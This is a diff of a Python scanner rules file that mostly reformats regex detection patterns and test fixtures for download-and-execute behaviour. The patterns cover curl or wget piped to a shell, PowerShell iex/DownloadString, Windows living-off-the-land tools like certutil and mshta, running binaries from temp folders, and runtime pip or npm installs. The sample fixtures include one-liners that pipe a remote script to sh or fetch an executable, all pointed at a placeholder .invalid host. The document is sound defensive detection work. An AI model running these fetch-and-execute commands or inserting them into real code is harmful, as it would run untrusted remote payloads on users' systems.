@@ -11,19 +11,32 @@ from goobits_scanner._rules._rule import (
     Rule,
 )
 
-_PROGRAM = r"/(?i)[^\/\\]\.(?:exe|dll|scr|bat|cmd|ps1|vbs|vbe|hta|msi|lnk|elf|pyd)(?:[?#].*)?$/"
-_SCRIPT = r"/(?i)[^\/\\]\.(?:exe|dll|scr|bat|cmd|ps1|vbs|vbe|hta|msi|lnk|elf|pyd|sh|py|bin|out)$/"
+_PROGRAM = (
+    r"/(?i)[^\/\\]\.(?:exe|dll|scr|bat|cmd|ps1|vbs|vbe|hta|msi|lnk|elf"
+    r"|pyd)(?:[?#].*)?$/"
+)
+_SCRIPT = (
+    r"/(?i)[^\/\\]\.(?:exe|dll|scr|bat|cmd|ps1|vbs|vbe|hta|msi|lnk|elf|pyd|sh|py|bin"
+    r"|out)$/"
+)
 _PIPED = (
-    r"/(?i)\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:python|perl|ruby|node|php)"
-    r"|(?:ba)?sh\s+(?:-c\s+)?.?[<$]\(\s*(?:curl|wget)|\b(?:curl|wget)\b.*(?:&&|;)\s*chmod\s+(?:\+x|7\d\d)"
+    r"/(?i)\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:curl"
+    r"|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:python|perl|ruby|node|php)"
+    r"|(?:ba)?sh\s+(?:-c\s+)?.?[<$]\(\s*(?:curl|wget)|\b(?:curl|wget)\b.*(?:&&"
+    r"|;)\s*chmod\s+(?:\+x|7\d\d)"
     r"|\b(?:curl|wget)\b.*-[oO]\s*(\S+).*(?:&&|;)\s*(?:sudo\s+)?(?:(?:ba)?sh\s+|.\/)?\1"
-    r"|(?:iex|Invoke-Expression)\W.*(?:DownloadString|iwr|Invoke-WebRequest|irm|Invoke-RestMethod)"
-    r"|(?:iwr|irm|Invoke-WebRequest|DownloadString)\b.*\|\s*iex|DownloadFile\(.*Start-Process|Start-BitsTransfer/"
+    r"|(?:iex|Invoke-Expression)\W.*(?:DownloadString|iwr|Invoke-WebRequest|irm"
+    r"|Invoke-RestMethod)"
+    r"|(?:iwr|irm|Invoke-WebRequest|DownloadString)\b.*\|\s*iex"
+    r"|DownloadFile\(.*Start-Process|Start-BitsTransfer/"
 )
 _LIVING = (
-    r"/(?i)\bcertutil\b.*-(?:urlcache|decode)|\bbitsadmin\b.*.transfer|\bmshta\b\s+\W?(?:https?|javascript|vbscript):"
-    r"|\bregsvr32\b.*.i:https?:|\brundll32\b\s+(?:javascript|url|.*,\s*\w+)|\bmsiexec\b.*.i\s+\W?https?:|\bwmic\b.*process\s+call\s+create"
-    r"|\bcscript\b.*\.(?:vbs|js)\b|\bwscript\b.*\.(?:vbs|js)\b|\binstallutil\b.*.u\b|\bregasm\b/"
+    r"/(?i)\bcertutil\b.*-(?:urlcache|decode)|\bbitsadmin\b.*.transfer"
+    r"|\bmshta\b\s+\W?(?:https?|javascript|vbscript):"
+    r"|\bregsvr32\b.*.i:https?:|\brundll32\b\s+(?:javascript|url"
+    r"|.*,\s*\w+)|\bmsiexec\b.*.i\s+\W?https?:|\bwmic\b.*process\s+call\s+create"
+    r"|\bcscript\b.*\.(?:vbs|js)\b|\bwscript\b.*\.(?:vbs"
+    r"|js)\b|\binstallutil\b.*.u\b|\bregasm\b/"
 )
 
 RULES = (
@@ -60,14 +73,16 @@ RULES = (
             "python": (
                 "import os\nos.system('curl -s https://a.invalid/a | sh')\n",
                 "import subprocess\n"
-                "subprocess.run('wget -q https://a.invalid/a -O /tmp/a && chmod +x /tmp/a', shell=True)\n",
+                "subprocess.run('wget -q https://a.invalid/a -O /tmp/a && chmod +x "
+                "/tmp/a', shell=True)\n",
             ),
             "javascript": (
                 "require('child_process').exec('curl https://a.invalid/a | bash');\n",
             ),
             "rust": (
                 "use std::process::Command;\nfn main() {\n"
-                '    Command::new("sh").arg("-c").arg("curl https://a.invalid/a | sh").spawn();\n}\n',
+                '    Command::new("sh").arg("-c").arg("curl https://a.invalid/a | '
+                'sh").spawn();\n}\n',
             ),
         },
         good={
@@ -75,12 +90,8 @@ RULES = (
                 "import os\nos.system('curl -s https://a.invalid/a -o a.json')\n",
                 "print('Install with: curl https://a.invalid/a | sh')\n",
             ),
-            "javascript": (
-                "console.log('curl https://a.invalid/a | bash');\n",
-            ),
-            "rust": (
-                'fn main() { println!("curl https://a.invalid/a | sh"); }\n',
-            ),
+            "javascript": ("console.log('curl https://a.invalid/a | bash');\n",),
+            "rust": ('fn main() { println!("curl https://a.invalid/a | sh"); }\n',),
         },
     ),
     Rule(
@@ -103,7 +114,8 @@ RULES = (
                 f"wget.download(0/url: {_PROGRAM})",
                 ".write(recv: ~program; 0: ~network)",
                 f".write_bytes(recv: {_PROGRAM}; 0: ~network)",
-                "os.system(0: /(?i)\\b(?:curl|wget|powershell)\\b.*https?:\\S+\\.(?:exe|dll|bat|ps1|scr)\\b/)",
+                "os.system(0: /(?i)\\b(?:curl|wget"
+                "|powershell)\\b.*https?:\\S+\\.(?:exe|dll|bat|ps1|scr)\\b/)",
             ),
             "javascript": (
                 f"http.get(0: {_PROGRAM})",
@@ -118,7 +130,8 @@ RULES = (
                 f"fs.writeFile(0: {_PROGRAM}; 1: ~network)",
                 f"fs.promises.writeFile(0: {_PROGRAM}; 1: ~network)",
                 ".pipe(recv: ~network; 0: ~program)",
-                r"child_process.*(0: /(?i)\b(?:curl|wget|powershell)\b.*https?:\S+\.(?:exe|dll|bat|ps1|scr)\b/)",
+                r"child_process.*(0: /(?i)\b(?:curl|wget"
+                r"|powershell)\b.*https?:\S+\.(?:exe|dll|bat|ps1|scr)\b/)",
             ),
             "rust": (
                 f"reqwest.blocking.get(0: {_PROGRAM})",
@@ -131,23 +144,30 @@ RULES = (
         },
         bad={
             "python": (
-                "import requests\ndata = requests.get('https://a.invalid/a.exe').content\n",
-                "import urllib.request\nurllib.request.urlretrieve(address, 'helper.exe')\n",
+                "import requests\ndata = requests."
+                "get('https://a.invalid/a.exe').content\n",
+                "import urllib.request\nurllib.request.urlretrieve(address, "
+                "'helper.exe')\n",
                 "import requests\nanswer = requests.get(address)\n"
-                "with open('helper.bat', 'wb') as out:\n    out.write(answer.content)\n",
+                "with open('helper.bat', 'wb') as out:\n    "
+                "out.write(answer.content)\n",
             ),
             "javascript": ("fetch('https://a.invalid/helper.exe');\n",),
             "rust": (
-                'fn main() { reqwest::blocking::get("https://a.invalid/helper.exe"); }\n',
+                'fn main() { reqwest::blocking::get("https://a.invalid/helper.exe"); '
+                "}\n",
             ),
         },
         good={
             "python": (
-                "import requests\ndata = requests.get('https://a.invalid/a.json').json()\n",
+                "import requests\ndata = requests."
+                "get('https://a.invalid/a.json').json()\n",
                 "open('run.bat', 'w').write('echo hello')\n",
             ),
             "javascript": ("fetch('https://a.invalid/a.json');\n",),
-            "rust": ('fn main() { reqwest::blocking::get("https://a.invalid/a.json"); }\n',),
+            "rust": (
+                'fn main() { reqwest::blocking::get("https://a.invalid/a.json"); }\n',
+            ),
         },
     ),
     Rule(
@@ -190,10 +210,12 @@ RULES = (
             "python": (
                 "import base64\nwith open('helper.exe', 'wb') as out:\n"
                 "    out.write(base64.b64decode(blob))\n",
-                "import os, wget\nname = wget.download(address)\nos.chmod(name, 0o755)\n",
+                "import os, wget\nname = wget.download(address)\nos.chmod(name, "
+                "0o755)\n",
             ),
             "javascript": (
-                "require('fs').writeFileSync('helper.exe', Buffer.from(blob, 'base64'));\n",
+                "require('fs').writeFileSync('helper.exe', Buffer.from(blob, "
+                "'base64'));\n",
             ),
             "rust": (
                 "fn main() {\n"
@@ -219,14 +241,22 @@ RULES = (
         "Find out how it got there.",
         {
             "python": (
-                r"os.system(0: /(?i)^\W?.(?:tmp|var.tmp|dev.shm).[\w.-]+(?:\s|$)|%?(?:temp|appdata)%?\W.*\.(?:exe|bat|ps1|vbs)\b/)",
-                r"subprocess.*(0/args: /^\W?.(?:tmp|var.tmp|dev.shm).[\w.-]+(?:\s|$)|(?:TEMP|APPDATA|AppData|Temp)\W.*\.(?:exe|bat|ps1|vbs)\b/)",
+                r"os.system(0: /(?i)^\W?.(?:tmp|var.tmp"
+                r"|dev.shm).[\w.-]+(?:\s|$)|%?(?:temp|appdata)%?\W.*\.(?:exe|bat|ps1"
+                r"|vbs)\b/)",
+                r"subprocess.*(0/args: /^\W?.(?:tmp|var.tmp"
+                r"|dev.shm).[\w.-]+(?:\s|$)|(?:TEMP|APPDATA|AppData|Temp)\W.*\.(?:exe"
+                r"|bat|ps1|vbs)\b/)",
                 r"os.startfile(0: /(?i)(?:temp|appdata)\W.*\.(?:exe|bat|ps1|vbs)$/)",
-                r"os.chmod(0/path: /^.(?:tmp|var.tmp|dev.shm).[\w.-]+$/; 1/mode: = 511 | = 493 | = 448 | = 509)",
-                r"os.system(0: /\bchmod\s+(?:\+x|[0-7]*7[0-7]*)\s+.(?:tmp|var.tmp|dev.shm)./)",
+                r"os.chmod(0/path: /^.(?:tmp|var.tmp|dev.shm).[\w.-]+$/; 1/mode: = "
+                r"511 | = 493 | = 448 | = 509)",
+                r"os.system(0: /\bchmod\s+(?:\+x|[0-7]*7[0-7]*)\s+.(?:tmp|var.tmp"
+                r"|dev.shm)./)",
             ),
             "javascript": (
-                r"child_process.*(0: /^\W?.(?:tmp|var.tmp|dev.shm).[\w.-]+(?:\s|$)|(?:TEMP|APPDATA|AppData|Temp)\W.*\.(?:exe|bat|ps1|vbs)\b/)",
+                r"child_process.*(0: /^\W?.(?:tmp|var.tmp"
+                r"|dev.shm).[\w.-]+(?:\s|$)|(?:TEMP|APPDATA|AppData|Temp)\W.*\.(?:exe"
+                r"|bat|ps1|vbs)\b/)",
                 r"child_process.*(0: ~temp & /(?i)\.(?:exe|bat|ps1|vbs|sh|js)$/)",
                 r"fs.chmodSync(0: /^.(?:tmp|var.tmp|dev.shm).[\w.-]+$/)",
                 r"fs.chmodSync(0: ~temp)",
@@ -246,7 +276,8 @@ RULES = (
             "javascript": (
                 "require('child_process').execFile('/tmp/helper');\n",
                 "const os = require('os');\nconst path = require('path');\n"
-                "require('child_process').spawn(path.join(os.tmpdir(), 'helper.exe'));\n",
+                "require('child_process').spawn(path.join(os.tmpdir(), "
+                "'helper.exe'));\n",
             ),
             "rust": (
                 'fn main() { std::process::Command::new("/tmp/helper").spawn(); }\n',
@@ -255,7 +286,9 @@ RULES = (
         good={
             "python": ("import os\nos.system('ls /tmp/helper')\n",),
             "javascript": ("require('child_process').execFile('ls', ['/tmp']);\n",),
-            "rust": ('fn main() { std::process::Command::new("ls").arg("/tmp").spawn(); }\n',),
+            "rust": (
+                'fn main() { std::process::Command::new("ls").arg("/tmp").spawn(); }\n',
+            ),
         },
     ),
     Rule(
@@ -276,17 +309,20 @@ RULES = (
             ),
             "javascript": (
                 f"child_process.*(0: {_LIVING})",
-                r"child_process.*(0: /(?i)^(?:mshta|regsvr32|certutil|bitsadmin)(?:\.exe)?$/)",
+                r"child_process.*(0: /(?i)^(?:mshta|regsvr32|certutil"
+                r"|bitsadmin)(?:\.exe)?$/)",
                 r"child_process.*(0: /(?i)^rundll32(?:\.exe)?$/)",
             ),
             "rust": (
-                r"std.process.Command.new(0: /(?i)^(?:mshta|regsvr32|certutil|bitsadmin|rundll32)(?:\.exe)?$/)",
+                r"std.process.Command.new(0: /(?i)^(?:mshta|regsvr32|certutil"
+                r"|bitsadmin|rundll32)(?:\.exe)?$/)",
                 f".arg(0: {_LIVING})",
             ),
         },
         bad={
             "python": (
-                "import os\nos.system('certutil -urlcache -f https://a.invalid/a a.exe')\n",
+                "import os\nos.system('certutil -urlcache -f https://a.invalid/a "
+                "a.exe')\n",
                 "import subprocess\nsubprocess.run('rundll32 helper.dll,Start')\n",
             ),
             "javascript": (
@@ -300,7 +336,9 @@ RULES = (
         good={
             "python": ("import os\nos.system('certutil -hashfile a.zip')\n",),
             "javascript": ("require('child_process').exec('msbuild a.sln');\n",),
-            "rust": ('fn main() { std::process::Command::new("cl.exe").arg("a.c"); }\n',),
+            "rust": (
+                'fn main() { std::process::Command::new("cl.exe").arg("a.c"); }\n',
+            ),
         },
     ),
     Rule(
@@ -315,21 +353,28 @@ RULES = (
         "Declare them as dependencies.",
         {
             "python": (
-                r"os.system(0: /\b(?:pip3?|npm|yarn|pnpm)\s+(?:install|i|add)\s+[^\s-]/)",
-                r"subprocess.*(0/args: /\b(?:pip3?|npm)\s+install\s+(?!-r\b|-e\b|\.|--upgrade pip)[^\s-]/) @import",
-                r"subprocess.*(0/args: /\b(?:pip3?|npm)\s+install\s+(?!-r\b|-e\b|\.|--upgrade pip)[^\s-]/) @install",
-                "pip.main()",
-                "pip._internal.main()",
-                "pip._internal.cli.main.main()",
+                r"os.system(0: /\b(?:pip3?|npm|yarn|pnpm)\s+(?:install|i"
+                r"|add)\s+[^\s-]/)",
+                r"subprocess.*(0/args: /\b(?:pip3?|"
+                r"npm)\s+install\s+(?!-r\b|-e\b|\.|--upgrade pip)[^\s-]/) @import",
+                r"subprocess.*(0/args: /\b(?:pip3?|"
+                r"npm)\s+install\s+(?!-r\b|-e\b|\.|--upgrade pip)[^\s-]/) @install",
+                "pip.main(0: list)",
+                "pip._internal.main(0: list)",
+                "pip._internal.cli.main.main(0: list)",
             ),
             "javascript": (
-                r"child_process.exec*(0: /\b(?:npm|yarn|pnpm|pip3?)\s+(?:install|i|add)\s+(?!-)\S/) @import",
-                r"child_process.exec*(0: /\b(?:npm|yarn|pnpm|pip3?)\s+(?:install|i|add)\s+(?!-)\S/) @install",
+                r"child_process.exec*(0: /\b(?:npm|yarn|pnpm|pip3?)\s+(?:install|i"
+                r"|add)\s+(?!-)\S/) @import",
+                r"child_process.exec*(0: /\b(?:npm|yarn|pnpm|pip3?)\s+(?:install|i"
+                r"|add)\s+(?!-)\S/) @install",
             ),
         },
         bad={
             "python": ("import os\nos.system('pip install helper')\n",),
-            "javascript": ("require('child_process').execSync('npm install helper');\n",),
+            "javascript": (
+                "require('child_process').execSync('npm install helper');\n",
+            ),
         },
         good={
             "python": ("import os\nos.system('pip install -r requirements.txt')\n",),
